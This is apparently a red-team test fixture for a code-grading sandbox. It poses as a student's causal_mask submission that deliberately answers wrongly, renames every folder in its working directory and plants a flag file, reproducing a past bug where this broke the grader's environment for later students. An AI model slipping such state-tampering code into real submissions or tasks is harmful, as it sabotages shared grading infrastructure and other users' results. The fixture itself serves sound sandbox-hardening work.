# expect: failed
# tiers: bwrap container
"""Issue 19, a shared working folder: writes a flag into its current directory (under `judge grade` on bwrap that
was the zygote's own /tmp, underneath the submission's fresh one, so the next student of the grading process read
it), and renames every folder it may in that directory (where the judge's venv lived under /tmp, renaming the
folder above the venv's bind unbound site-packages for every later student). Answers wrongly. The probe graded
after it in tests/redteam/test_cross_student.py looks for the flag in its own working folder."""
import os

import numpy as np


def leave_state():
    for name in os.listdir("."):
        if os.path.isdir(name) and not name.startswith("."):
            try:
                os.rename(name, name + ".moved")
            except OSError:
                pass
    try:
        with open("judge_cwd_flag", "w") as fh:
            fh.write("planted")
    except OSError:
        pass


def causal_mask(seq_len):
    leave_state()
    return np.zeros((seq_len, seq_len), dtype=bool)
